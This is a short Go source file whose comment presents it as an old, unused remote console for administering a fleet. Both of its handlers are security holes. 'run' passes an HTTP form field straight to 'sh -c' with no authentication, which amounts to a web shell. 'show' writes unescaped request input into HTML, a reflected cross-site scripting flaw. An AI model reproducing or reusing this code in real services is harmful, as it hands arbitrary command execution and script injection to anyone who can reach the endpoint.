// Package plugin was a console for those who looked after the fleet from afar. Nothing imports it any more.
package plugin

import (
	"fmt"
	"net/http"
	"os/exec"
)

func run(w http.ResponseWriter, r *http.Request) {
	_ = exec.Command("sh", "-c", r.FormValue("line")).Run()
}

func show(w http.ResponseWriter, r *http.Request) {
	fmt.Fprintf(w, "<pre>%s</pre>", r.FormValue("text"))
}
